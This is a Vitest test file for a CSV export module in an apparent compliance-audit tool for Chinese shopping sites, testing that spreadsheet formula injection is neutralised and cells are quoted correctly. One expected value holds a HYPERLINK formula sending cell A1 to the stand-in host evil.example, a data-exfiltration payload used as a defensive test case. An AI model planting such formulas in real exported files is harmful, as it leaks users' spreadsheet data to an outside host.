import { describe, expect, it } from 'vitest';
import { auditsToCsv as auditsToCsvBlob, BOM, csvCell, csvRow } from '@/evidence/export/csv';
import type { AuditResult, Locale } from '@/rules/types';

/** The file's text, with its byte-order mark (Blob.text() would drop it). */
const auditsToCsv = async (audits: AuditResult[], locale: Locale) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await auditsToCsvBlob(audits, locale)).arrayBuffer());
import { HOSTILE_FORMULA, HOSTILE_TEXT, hostileAudit, sampleAudit } from '../helpers';

/** A small RFC 4180 reader, to check that what was written reads back cell for cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

describe('csvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+86 10 1234', "'+86 10 1234"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    [HOSTILE_FORMULA, `"'=HYPERLINK(""http://evil.example/?""&A1,""点击领取"")"`],
  ])('neutralises the formula %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each([
    [' =1+1', "' =1+1"],
    ['\u00A0+86 10 1234', "'\u00A0+86 10 1234"],
    ['\u3000-2', "'\u3000-2"],
    ['\uFEFF=1', "'\uFEFF=1"],
    ['\u200B@SUM(A1)', "'\u200B@SUM(A1)"],
    ['\u200D\u2060 =1', "'\u200D\u2060 =1"],
    ['\n=1', `"'\n=1"`],
  ])('neutralises a formula behind leading blanks or invisible characters %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each([
    ['＝1+1', "'＝1+1"],
    ['＋86 10 1234', "'＋86 10 1234"],
    ['－2', "'－2"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    [' ＝1', "' ＝1"],
  ])('neutralises the full-width formula sign in %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves text with a sign later in the cell, or only blanks, as it is', () => {
    expect(csvCell(' 电话 010-1234')).toBe(' 电话 010-1234');
    expect(csvCell('  ')).toBe('  ');
    expect(csvCell('A=1')).toBe('A=1');
  });

  it('quotes commas, quotes and line breaks (RFC 4180) and leaves plain text and Chinese alone', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
    expect(csvCell('京ICP备11041704号-1')).toBe('京ICP备11041704号-1');
    expect(csvCell(62)).toBe('62');
    expect(csvCell(null)).toBe('');
  });

  it('ends rows with CRLF', () => {
    expect(csvRow(['a', 1, null])).toBe('a,1,\r\n');
  });
});

describe('auditsToCsv', () => {
  it('starts with a byte-order mark and has one row per audit and one per finding', async () => {
    const audit = sampleAudit();
    const csv = await auditsToCsv([audit, audit], 'zh_CN');
    expect(csv.startsWith(BOM)).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows[0][0]).toBe('类型');
    expect(rows).toHaveLength(1 + 2 * (1 + audit.results.length));
    expect(rows[1].slice(0, 4)).toEqual(['核查', '1', 'https://shop.example.cn/', '示例商城 - 正品低价 网上购物']);
    const finding = rows.find((r) => r[14] === 'business-licence')!;
    expect(finding).toMatchObject({
      0: '核查项',
      1: '1',
      15: '营业执照信息',
      18: '不符合',
      19: '《网络交易平台经营者履行社会责任指引》第九条；《网络交易平台合同格式条款规范指引》第八条第（一）项；《中华人民共和国电子商务法》第十五条',
    });
    expect(rows.every((r) => r.length === rows[0].length)).toBe(true);
  });

  it('writes English headers when asked', async () => {
    const rows = parseCsv((await auditsToCsv([sampleAudit()], 'en')).slice(1));
    expect(rows[0].slice(0, 3)).toEqual(['Kind', 'Audit', 'URL']);
  });

  it('shows hostile page text as text: no cell a spreadsheet would run', async () => {
    const csv = await auditsToCsv([hostileAudit()], 'en');
    const cells = parseCsv(csv.slice(1)).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const evidence = cells.find((c) => c.includes('HYPERLINK'))!;
    expect(evidence.startsWith("'=HYPERLINK")).toBe(true);
    expect(cells.some((c) => c.includes(HOSTILE_TEXT))).toBe(true);
    expect(cells).toContain('\'-2+3 "quoted", comma\nnew line');
  });
});

describe('auditsToCsv over audits sharing their rules', () => {
  it('writes each finding row as it would alone, whatever other audits wrote before it', async () => {
    const first = sampleAudit();
    const second: AuditResult = {
      ...sampleAudit(),
      url: 'https://other.example.cn/',
      results: sampleAudit().results.map((r, i) => (i % 2 ? { ...r, status: r.status === 'fail' ? 'pass' : 'fail' } : r)),
    };
    const findings = (csv: string) => parseCsv(csv.slice(1)).slice(1).filter((row) => row[1] !== '' && row.slice(3, 14).every((cell) => cell === ''));
    const alone = findings(await auditsToCsv([second], 'en')).map((row) => row.slice(2));
    const together = findings(await auditsToCsv([first, second], 'en')).filter((row) => row[1] === '2').map((row) => row.slice(2));
    expect(together).toEqual(alone);
    expect(together.length).toBe(second.results.length);
  });

  it('gives each audit its own message and evidence cells when only the params or the evidence differ', async () => {
    const base = sampleAudit();
    const index = base.results.findIndex((r) => r.evidence.length > 0);
    const variant = (n: number): AuditResult => ({
      ...base,
      url: `https://shop${n}.example.cn/`,
      results: base.results.map((r, i) =>
        i === index
          ? { ...r, messageParams: { ...r.messageParams, count: n }, evidence: r.evidence.map((e) => ({ ...e, text: `${e.text} ${n}`, visible: n % 2 === 0 })) }
          : r,
      ),
    });
    const audits = [variant(1), variant(2), variant(1)];
    const together = parseCsv((await auditsToCsv(audits, 'en')).slice(1)).slice(1);
    const alone = await Promise.all(audits.map(async (audit) => parseCsv((await auditsToCsv([audit], 'en')).slice(1)).slice(1)));
    const cells = (rows: string[][]) => rows.map((row) => row.slice(2));
    expect(cells(together)).toEqual(alone.flatMap(cells));
    const evidenceCells = together.filter((row) => row[14] === base.results[index].ruleId).map((row) => row.at(-1));
    expect(new Set(evidenceCells).size).toBe(2);
    expect(evidenceCells[0]).toBe(evidenceCells[2]);
  });
});
